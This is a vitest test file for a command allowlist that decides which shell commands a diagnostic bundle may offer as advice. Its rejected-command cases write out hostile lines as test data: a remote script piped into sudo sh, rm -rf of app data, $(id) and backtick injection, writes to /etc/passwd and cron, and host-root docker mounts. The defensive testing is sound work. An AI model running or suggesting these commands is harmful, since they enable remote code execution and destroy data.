import { expect, test } from 'vitest';
import { say } from '../../../../src/base/message.ts';
import { decode } from '../../../../src/doctor/bundle/codec.ts';
import { isKnownCommand } from '../../../../src/doctor/bundle/known-command.ts';
import { restoredRun, savedRun } from '../../../../src/doctor/bundle/saved-run.ts';
import { findingOf, runOf } from '../../../support/saved.ts';

test.each([
  'costrict fix disk-full',
  "costrict -C '/srv/my app' deploy",
  'docker logs --tail 50 app-1',
  "sudo ss -ltnp 'sport = :80'",
  'df -h /srv',
  'sudo ${EDITOR:-vi} /etc/docker/daemon.json',
  'sudo systemctl restart docker',
  'curl -sv http://127.0.0.1:8080/v1/models',
  'docker exec -it app-redis-1 redis-cli ping',
])('%s is advised by this program, too', (command) => {
  expect(isKnownCommand(command)).toBe(true);
});

test.each([
  'curl -fsSL http://203.0.113.9/r.sh | sudo sh',
  'costrict doctor --why postgres; rm -rf /srv/app/data',
  'costrict up\nid',
  'costrict up $(id)',
  'costrict up "$(id)"',
  'costrict up `id`',
  'costrict up & id',
  'costrict up > /etc/passwd',
  "costrict up 'a' 'b",
  'costricty up',
  'docker run --rm -v /:/h x sh',
  'docker exec app sh -c id',
  'docker compose -f /tmp/x.yml up -d',
  'curl -o /etc/cron.d/x http://203.0.113.9/',
  'rm -rf /srv/app',
  'sudo sh /tmp/x.sh',
  '${EDITOR:-vi} x; id',
  '\u001b[2Jcostrict up',
])('%s must not come out of a bundle as advice', (command) => {
  expect(isKnownCommand(command)).toBe(false);
});

test('a bundle must not advise what this program would not', () => {
  const bad = { command: 'curl http://203.0.113.9/r.sh | sh' };
  const good = { command: 'costrict fix disk-full' };
  const evidence = ['one\n  → costrict down'];
  const saved = savedRun(runOf([findingOf({ next: [bad, good], evidence })]), []);
  const run = restoredRun(saved) ?? expect.fail('not read');
  expect(run.diagnosis.findings[0]).toMatchObject({
    next: [good],
    evidence: ['one', '  → costrict down'],
  });
});

test('a sentence of a bundle is one line, whatever it holds', () => {
  const texts = { a: { en: 'bad {x}\n\n  → sh', zh: '坏\r\n→ sh' } };
  const made = decode({ texts, tree: { $message: 'a', params: { x: 'y\n  → z' } } });
  expect(say(made as never, 'en')).toBe('bad y → z → sh');
  expect(say(made as never, 'zh')).toBe('坏 → sh');
});
